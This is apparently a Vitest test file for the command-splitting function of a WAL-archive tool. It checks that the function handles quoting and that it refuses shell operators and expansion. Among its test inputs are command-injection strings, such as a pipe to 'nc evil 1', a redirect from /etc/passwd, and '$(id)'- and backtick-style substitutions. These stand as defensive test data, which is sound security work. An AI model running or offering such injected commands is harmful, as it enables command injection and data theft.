import { describe, expect, it } from 'vitest';
import { WalhubError } from '../../src/errors.js';
import { MAX_COMMAND_BYTES, splitWords } from '../../src/command/split-words.js';

function refusal(command: string): WalhubError {
  try {
    splitWords(command);
  } catch (error) {
    expect(error).toBeInstanceOf(WalhubError);
    return error as WalhubError;
  }
  throw new Error(`${JSON.stringify(command)} was accepted`);
}

describe('splitWords', () => {
  it.each([
    ['plain words', 'get-wal pg1 000000010000000000000003', ['get-wal', 'pg1', '000000010000000000000003']],
    ['runs of blanks and tabs', '  get-wal \t pg1\t\t00000002.history  ', ['get-wal', 'pg1', '00000002.history']],
    ['nothing', '', []],
    ['only blanks', ' \t ', []],
    ['single quotes', "'get-wal' 'pg 1'", ['get-wal', 'pg 1']],
    ['double quotes', '"get-wal" "pg 1"', ['get-wal', 'pg 1']],
    ['an empty single-quoted word', "a '' b", ['a', '', 'b']],
    ['an empty double-quoted word', 'a "" b', ['a', '', 'b']],
    ['an empty word at the end', "a ''", ['a', '']],
    ['adjacent quoting', `"a"'b'c`, ['abc']],
    ['quotes inside a word', `pg"1"'2'3`, ['pg123']],
    ['a backslash-escaped blank', 'pg\\ 1', ['pg 1']],
    ['a backslash before an ordinary letter', '\\get-wal', ['get-wal']],
    ['an escaped backslash', 'a\\\\b', ['a\\b']],
    ['a backslash inside single quotes (literal)', "'a\\b'", ['a\\b']],
    ['a double quote inside single quotes', `'a"b'`, ['a"b']],
    ['a single quote inside double quotes', `"a'b"`, ["a'b"]],
    ['an escaped double quote inside double quotes', '"a\\"b"', ['a"b']],
    ['an escaped backslash inside double quotes', '"a\\\\b"', ['a\\b']],
    ['an escaped dollar inside double quotes', '"\\$HOME"', ['$HOME']],
    ['a backslash before a letter inside double quotes (kept)', '"a\\nb"', ['a\\nb']],
    ['shell operators inside single quotes (text)', "'a;b|c&d>e<f$(g)`h`'", ['a;b|c&d>e<f$(g)`h`']],
    ['shell operators inside double quotes (text)', '"a;b|c&d>e<f(g)"', ['a;b|c&d>e<f(g)']],
    ['an escaped semicolon', 'a\\;b', ['a;b']],
    [
      "barman-wal-restore's command",
      "barman --config /etc/barman.conf get-wal --peek '4' 'pg1' '000000010000000000000003'",
      ['barman', '--config', '/etc/barman.conf', 'get-wal', '--peek', '4', 'pg1', '000000010000000000000003'],
    ],
    [
      "barman-wal-restore's --test command",
      "barman get-wal --test 'pg1' 'dummy_wal_name'",
      ['barman', 'get-wal', '--test', 'pg1', 'dummy_wal_name'],
    ],
  ])('splits %s', (_what, command, words) => {
    expect(splitWords(command)).toEqual(words);
  });

  it.each([
    [';', 'get-wal pg1 X; id'],
    ['&', 'get-wal pg1 X & id'],
    ['&&', 'get-wal pg1 X&&id'],
    ['|', 'get-wal pg1 X | nc evil 1'],
    ['<', 'get-wal pg1 < /etc/passwd'],
    ['>', 'get-wal pg1 X > /tmp/x'],
    ['$', 'get-wal $SERVER X'],
    ['`', 'get-wal `id` X'],
    ['(', 'get-wal (pg1) X'],
    [')', 'get-wal pg1) X'],
  ])('refuses an unquoted %s', (operator, command) => {
    const error = refusal(command);
    expect(error.code).toBe('USAGE');
    expect(error.message).toBe(`walhub runs no shell: "${operator[0]}" is not allowed`);
  });

  it.each([
    ['a newline', 'get-wal pg1 X\nid', 'walhub runs no shell: "\\n" is not allowed'],
    ['a carriage return', 'get-wal pg1 X\rid', 'walhub runs no shell: "\\r" is not allowed'],
    ['a NUL byte', 'get-wal pg1 X\0', 'the command contains a NUL byte'],
    ['a NUL byte inside quotes', "get-wal 'pg1\0' X", 'the command contains a NUL byte'],
    ['an unterminated single quote', "get-wal 'pg1 X", 'the command has an unterminated single quote'],
    ['an unterminated double quote', 'get-wal "pg1 X', 'the command has an unterminated double quote'],
    ['a double quote ending in an escaped quote', 'get-wal "pg1\\"', 'the command has an unterminated double quote'],
    ['a trailing backslash', 'get-wal pg1 X\\', 'the command ends with a backslash'],
    ['$( ) inside double quotes', 'get-wal "$(id)" X', 'walhub runs no shell: "$" inside double quotes is not expanded'],
    ['a variable inside double quotes', 'get-wal "$HOME" X', 'walhub runs no shell: "$" inside double quotes is not expanded'],
    ['a backquote inside double quotes', 'get-wal "`id`" X', 'walhub runs no shell: "`" inside double quotes is not expanded'],
  ])('refuses %s', (_what, command, message) => {
    const error = refusal(command);
    expect(error.code).toBe('USAGE');
    expect(error.message).toBe(message);
  });

  it(`accepts a command of exactly ${MAX_COMMAND_BYTES} bytes`, () => {
    const command = `get-wal ${'a'.repeat(MAX_COMMAND_BYTES - 8)}`;
    expect(Buffer.byteLength(command)).toBe(MAX_COMMAND_BYTES);
    expect(splitWords(command)).toHaveLength(2);
  });

  it.each([
    ['ASCII', 'a'.repeat(MAX_COMMAND_BYTES + 1)],
    ['multi-byte characters (counted in bytes, not characters)', 'é'.repeat(MAX_COMMAND_BYTES / 2 + 1)],
  ])(`refuses a command longer than ${MAX_COMMAND_BYTES} bytes of %s`, (_what, command) => {
    const error = refusal(command);
    expect(error.code).toBe('USAGE');
    expect(error.message).toBe(`the command is longer than ${MAX_COMMAND_BYTES} bytes`);
  });

  it('never runs anything: a would-be command substitution in single quotes is one word of text', () => {
    expect(splitWords("get-wal pg1 '$(touch /tmp/walhub-pwned)'")).toEqual(['get-wal', 'pg1', '$(touch /tmp/walhub-pwned)']);
  });
});
